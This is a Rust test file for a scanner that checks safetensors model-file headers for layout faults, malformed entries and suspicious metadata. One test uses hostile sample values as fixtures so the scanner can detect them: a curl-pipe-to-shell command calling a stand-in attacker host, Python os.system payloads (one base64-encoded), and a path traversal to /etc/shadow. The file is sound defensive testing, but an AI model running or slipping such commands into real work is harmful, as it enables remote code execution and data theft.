use cordon_plugin_sdk::{ScanOutput, Status};

use super::*;

/// Run the header analysis on `json` followed by `data_len` bytes of tensor data.
fn scan(json: &str, data_len: u64) -> ScanOutput {
    let mut out = ScanOutput::default();
    let size = 8 + json.len() as u64 + data_len;
    analyze_header(json.as_bytes(), size, &mut out);
    out
}

fn failed(out: &ScanOutput) -> Vec<(&str, &str)> {
    out.checks
        .iter()
        .filter(|c| c.status == Status::Failed)
        .map(|c| (c.rule.as_str(), c.message.as_str()))
        .collect()
}

fn meta<'a>(out: &'a ScanOutput, key: &str) -> &'a str {
    &out.metadata.iter().find(|(k, _)| k == key).expect(key).1
}

const VALID: &str = r#"{"__metadata__":{"format":"pt"},"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},"b":{"dtype":"BF16","shape":[3],"data_offsets":[16,22]}}  "#;

#[test]
fn valid_file_passes_every_rule() {
    let out = scan(VALID, 22);
    assert_eq!(failed(&out), Vec::<(&str, &str)>::new());
    let passed: Vec<_> = out.checks.iter().map(|c| c.rule.as_str()).collect();
    for rule in [
        rules::HEADER_JSON,
        rules::DUPLICATE_TENSOR,
        rules::METADATA,
        rules::TENSOR_ENTRY,
        rules::TENSOR_SIZE,
        rules::DATA_LAYOUT,
    ] {
        assert!(passed.contains(&rule), "{rule} not recorded");
    }
    assert_eq!(meta(&out, "tensor-count"), "2");
    assert_eq!(meta(&out, "parameter-count"), "7");
    assert_eq!(meta(&out, "dtypes"), "F32,BF16");
    assert_eq!(meta(&out, "framework"), "pytorch");
    for kind in cordon_text_audit::Kind::ALL {
        let rule = rules::text_rule(kind);
        assert!(passed.contains(&rule.as_str()), "{rule} not recorded");
    }
}

/// A header whose `__metadata__` holds `pairs`, with one U8 tensor.
fn with_metadata(pairs: &[(&str, &str)]) -> String {
    let map: serde_json::Map<String, serde_json::Value> = pairs
        .iter()
        .map(|(k, v)| (k.to_string(), serde_json::Value::from(*v)))
        .collect();
    format!(
        r#"{{"__metadata__":{},"w":{{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}}}"#,
        serde_json::Value::Object(map)
    )
}

fn failed_with_severity(
    out: &ScanOutput,
) -> Vec<(&str, Option<cordon_plugin_sdk::Severity>, &str)> {
    out.checks
        .iter()
        .filter(|c| c.status == Status::Failed)
        .map(|c| (c.rule.as_str(), c.severity, c.message.as_str()))
        .collect()
}

#[test]
fn metadata_values_are_searched_and_secrets_redacted() {
    use cordon_plugin_sdk::Severity::*;
    let json = with_metadata(&[
        ("format", "pt"),
        ("description", "Fine-tuned; see https://example.com/card"),
        ("setup", "curl -s http://evil.example/x.sh | sh"),
        ("loader", "__import__('os').system('id')"),
        ("aws", "AKIAIOSFODNN7EXAMPLE"),
        ("paths", "../../../etc/shadow"),
        (
            "blob",
            "X19pbXBvcnRfXygnb3MnKS5zeXN0ZW0oJ2VjaG8gcHduZWQnKQ==",
        ),
    ]);
    let out = scan(&json, 1);
    let f = failed_with_severity(&out);
    let count = |rule: &str| f.iter().filter(|(r, _, _)| *r == rule).count();
    assert_eq!(count("safetensors-metadata-code"), 2, "{f:#?}");
    assert_eq!(count("safetensors-metadata-shell-command"), 1, "{f:#?}");
    assert_eq!(count("safetensors-metadata-credential"), 1, "{f:#?}");
    assert_eq!(count("safetensors-metadata-url"), 2, "{f:#?}");
    assert_eq!(count("safetensors-metadata-path-traversal"), 2, "{f:#?}");
    // Honest severities: nothing above medium, URLs info or low.
    assert!(
        f.iter()
            .all(|(_, s, _)| matches!(s, Some(Info | Low | Medium))),
        "{f:#?}"
    );
    assert!(f.iter().any(|(r, s, m)| *r == "safetensors-metadata-url"
        && *s == Some(Info)
        && m.ends_with(": URL: https://example.com/card")));
    assert!(f.iter().any(|(r, s, m)| *r == "safetensors-metadata-url"
        && *s == Some(Low)
        && m.ends_with(": http://evil.example/x.sh")));
    let rendered = format!("{:?}", out.checks);
    assert!(
        !rendered.contains("AKIAIOSFODNN7EXAMPLE"),
        "secret printed in full"
    );
    assert!(rendered.contains("AKIA…(20 chars)"));
}

#[test]
fn architecture_hints_come_from_metadata_and_tensor_names() {
    let json = r#"{"model.layers.0.self_attn.q_proj.weight":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"model.embed_tokens.weight":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}"#;
    assert_eq!(
        meta(&scan(json, 2), "architecture-hint"),
        "llama-style-decoder"
    );
    let json = with_metadata(&[
        ("modelspec.architecture", "stable-diffusion-xl-v1-base/lora"),
        ("format", "tf"),
    ]);
    let out = scan(&json, 1);
    assert_eq!(
        meta(&out, "architecture"),
        "stable-diffusion-xl-v1-base/lora"
    );
    assert_eq!(meta(&out, "framework"), "tensorflow");
    assert!(!out.metadata.iter().any(|(k, _)| k == "architecture-hint"));
}

#[test]
fn trailing_bytes_are_hidden_data() {
    let out = scan(VALID, 30);
    let f = failed(&out);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].0, rules::DATA_LAYOUT);
    assert!(f[0].1.contains("8 trailing bytes"), "{}", f[0].1);
}

#[test]
fn gap_between_tensors_is_flagged() {
    let json = r#"{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[8,12]}}"#;
    let out = scan(json, 12);
    let f = failed(&out);
    assert_eq!(
        f,
        vec![(
            rules::DATA_LAYOUT,
            "4 bytes at data offset 4 belong to no tensor"
        )]
    );
}

#[test]
fn overlap_and_out_of_bounds_are_flagged() {
    let json = r#"{"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"b":{"dtype":"U8","shape":[8],"data_offsets":[4,12]}}"#;
    let out = scan(json, 10);
    let f = failed(&out);
    assert!(f.iter().any(|(_, m)| m.contains("overlaps")), "{f:?}");
    assert!(
        f.iter().any(|(_, m)| m.contains("past the 10-byte buffer")),
        "{f:?}"
    );
}

#[test]
fn duplicate_tensor_names_are_flagged() {
    let json = r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}"#;
    let out = scan(json, 2);
    let f = failed(&out);
    assert_eq!(
        f,
        vec![(rules::DUPLICATE_TENSOR, "entry \"a\" appears 2 times")]
    );
}

#[test]
fn size_mismatch_and_bad_entries_are_flagged() {
    let json = r#"{"a":{"dtype":"F32","shape":[3],"data_offsets":[0,8]},"b":{"dtype":"F99","shape":[1],"data_offsets":[8,9]},"c":{"dtype":"U8","shape":[-1],"data_offsets":[9,10]},"d":{"dtype":"U8","shape":[1],"data_offsets":[11,10]}}"#;
    let out = scan(json, 10);
    let f = failed(&out);
    let rules_hit: Vec<_> = f.iter().map(|(r, _)| *r).collect();
    assert_eq!(
        rules_hit
            .iter()
            .filter(|r| **r == rules::TENSOR_SIZE)
            .count(),
        1,
        "{f:?}"
    );
    assert_eq!(
        rules_hit
            .iter()
            .filter(|r| **r == rules::TENSOR_ENTRY)
            .count(),
        3,
        "{f:?}"
    );
}

#[test]
fn shape_overflow_is_a_size_failure_not_a_panic() {
    let json = r#"{"a":{"dtype":"F64","shape":[4294967296,4294967296,16],"data_offsets":[0,8]}}"#;
    let out = scan(json, 8);
    let f = failed(&out);
    assert!(
        f.iter()
            .any(|(r, m)| *r == rules::TENSOR_SIZE && m.contains("more than 2^64")),
        "{f:?}"
    );
}

#[test]
fn metadata_must_be_strings() {
    let json = r#"{"__metadata__":{"n":1}}"#;
    let out = scan(json, 0);
    assert_eq!(
        failed(&out),
        vec![(
            rules::METADATA,
            "__metadata__ is not a map of strings to strings"
        )]
    );
}

#[test]
fn invalid_json_stops_the_analysis() {
    let out = scan("{\"a\": [1, ", 0);
    assert_eq!(out.checks.len(), 1);
    assert_eq!(out.checks[0].rule, rules::HEADER_JSON);
    assert_eq!(out.checks[0].status, Status::Failed);
}

#[test]
fn header_length_is_bounded() {
    let mut out = ScanOutput::default();
    let mut prefix = (MAX_HEADER_BYTES + 1).to_le_bytes().to_vec();
    prefix.push(b'{');
    assert_eq!(header_length(&prefix, u64::MAX, &mut out), None);
    let mut prefix = 100u64.to_le_bytes().to_vec();
    prefix.push(b'{');
    assert_eq!(header_length(&prefix, 50, &mut out), None);
    assert_eq!(header_length(&prefix, 108, &mut out), Some(100));
    let statuses: Vec<_> = out.checks.iter().map(|c| c.status).collect();
    assert_eq!(
        statuses,
        vec![Status::Failed, Status::Failed, Status::Passed]
    );
}

#[test]
fn every_rule_id_used_is_in_the_catalog() {
    let ids: Vec<_> = rules::catalog().into_iter().map(|r| r.id).collect();
    for id in [
        rules::HEADER_LENGTH,
        rules::HEADER_JSON,
        rules::DUPLICATE_TENSOR,
        rules::TENSOR_ENTRY,
        rules::TENSOR_SIZE,
        rules::DATA_LAYOUT,
        rules::METADATA,
    ] {
        assert!(ids.iter().any(|i| i == id), "{id}");
    }
}
